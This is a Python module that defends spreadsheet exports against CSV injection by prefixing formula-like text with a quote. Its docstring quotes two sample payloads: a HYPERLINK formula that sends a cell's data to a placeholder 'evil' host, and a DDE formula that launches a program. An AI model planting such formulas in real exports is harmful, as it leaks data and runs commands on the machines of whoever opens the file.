"""Text for spreadsheet cells that Excel or LibreOffice will not run as a formula.

Exports carry what came in from outside: scanned codes, SKUs from a shop's import, customer
text. A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is taken as a formula when the file is opened, so a parcel label printed with
``=HYPERLINK("http://evil/?"&A1,"click")`` or ``=CMD|' /C calc'!A0`` would become live in
the supervisor's spreadsheet (CSV injection, OWASP). ``safe_cell`` prefixes such text with a
single quote, as OWASP advises, which spreadsheets show as text. Real numbers stay numbers,
including negative ones, and text that is only a number (``-12.5``) is left as it is: a
spreadsheet reads it as that number, never as a formula.

Every CSV and XLSX writer in the station passes its cells through ``safe_cell``.
"""

from __future__ import annotations

import re
from typing import Any

#: What a spreadsheet may read as the start of a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_text(text: str) -> str:
    """``text``, with a leading ``'`` if a spreadsheet could take it for a formula."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_cell(value: Any) -> Any:
    """A cell value to write: text made inert, anything else (numbers, dates, None) unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value
